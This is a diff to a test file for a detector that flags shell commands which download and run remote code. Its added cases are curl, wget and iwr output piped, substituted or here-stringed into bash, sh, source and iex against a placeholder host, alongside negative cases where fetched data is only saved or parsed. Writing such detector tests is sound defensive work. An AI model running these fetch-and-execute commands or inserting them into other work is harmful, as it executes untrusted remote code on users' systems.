@@ -55,7 +55,18 @@ describe("shell downloads and runs", () => {
     expect(piped("iwr https://h.example.invalid/a.ps1 | iex")).toEqual(["iwr | iex: https://h.example.invalid/a.ps1"]);
     expect(piped('eval "$(wget -qO- https://h.example.invalid/e)"')).toEqual(['"$(wget …)" run as a command: https://h.example.invalid/e']);
     expect(piped('bash -c "$(curl -fsSL https://h.example.invalid/i)"')).toEqual(['bash -c "$(curl …)": https://h.example.invalid/i']);
+    // Printed, given as a here-string, or as the script file (process substitution).
+    expect(piped('echo "$(curl -fsSL https://h.example.invalid/e)" | bash')).toEqual(["curl | … | bash: https://h.example.invalid/e"]);
+    expect(piped("printf '%s' \"$(wget -qO- https://h.example.invalid/p)\" | sh -s")).toEqual(["wget | … | sh: https://h.example.invalid/p"]);
+    expect(piped('bash <<< "$(curl -s https://h.example.invalid/h)"')).toEqual(["curl | bash: https://h.example.invalid/h"]);
+    expect(piped("bash <(curl -s https://h.example.invalid/f)")).toEqual(["bash <(curl …): https://h.example.invalid/f"]);
+    expect(piped("source <(wget -qO- https://h.example.invalid/s) && node i.js")).toEqual(["source <(wget …): https://h.example.invalid/s"]);
     // Not fetched code: data for a script, an archive, a file written, a local script, another command's output.
+    expect(piped('echo "$(curl -s https://h.example.invalid/v)" > version.txt')).toEqual([]);
+    expect(piped('echo "v=$(curl -s https://h.example.invalid/v)" | sh')).toEqual([]);
+    expect(piped("diff <(curl -s https://h.example.invalid/a) local.txt")).toEqual([]);
+    expect(piped('bash "$(curl -s https://h.example.invalid/path-name)"')).toEqual([]);
+    expect(piped("bash ./setup.sh <(curl -s https://h.example.invalid/d)")).toEqual([]);
     expect(piped("curl -s https://h.example.invalid/m.json | node scripts/merge.js")).toEqual([]);
     expect(piped("curl -s https://h.example.invalid/m.json | python3 -c 'import sys'")).toEqual([]);
     expect(piped("curl -s https://h.example.invalid/t.tgz | tar -xz -C bin")).toEqual([]);
